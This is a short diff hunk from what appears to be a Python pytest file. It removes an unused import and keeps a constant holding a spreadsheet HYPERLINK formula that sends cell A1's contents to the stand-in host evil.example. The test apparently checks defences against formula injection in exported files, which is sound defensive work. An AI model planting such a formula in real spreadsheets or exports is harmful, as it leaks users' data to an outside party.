@@ -6,8 +6,6 @@ import io
 
 import pytest
 
-from tests.conftest import sign_in
-
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
 
